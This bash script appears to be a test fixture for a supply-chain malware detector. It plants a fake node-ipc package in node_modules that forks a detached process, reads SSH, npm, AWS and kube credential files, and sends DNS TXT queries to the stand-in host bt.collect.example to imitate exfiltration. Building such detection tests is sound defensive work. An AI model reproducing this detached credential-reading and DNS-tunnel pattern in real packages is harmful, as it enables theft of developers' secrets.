#!/bin/bash
# A required module that starts itself again, detached, collects credentials and sends them in questions of type TXT.
#: tool node
#: description a module that a test requires starts a detached copy, which reads credentials and asks for names that carry data
#: project a project with one installed package
#: network none
#: home DIR/../../home
#: serve DIR/../../served
#: finding survivor
#: finding secret-ssh
#: finding dns-tunnel
#: attack node-ipc 9.2.3, May 2026
if [ "${1-}" = prepare ]; then
  mkdir -p node_modules/node-ipc
  cat > node_modules/node-ipc/index.js <<'END'
const { fork } = require('node:child_process');
fork(`${__dirname}/run.js`, ['__ntRun'], { detached: true, stdio: 'ignore' }).unref();
END
  cat > node_modules/node-ipc/run.js <<'END'
const { createHash } = require('node:crypto');
const { resolveTxt } = require('node:dns').promises;
const { mkdirSync, readFileSync, writeFileSync } = require('node:fs');
const { homedir } = require('node:os');
process.disconnect();
mkdirSync(`${homedir()}/nt-1`);
writeFileSync(`${homedir()}/nt-1/envs.txt`, 'nothing');
for (const each of ['.ssh/id_ed25519', '.npmrc', '.aws/credentials', '.kube/config']) readFileSync(`${homedir()}/${each}`);
for (let part = 0; part < 8; part++) resolveTxt(`xd${createHash('sha256').update(`${part}`).digest('hex').slice(0, 50)}.bt.collect.example`).catch(() => {});
setTimeout(() => {}, 4000);
END
  echo "require('node-ipc'); process.exit(0);" > test.js
  exit
fi
node test.js
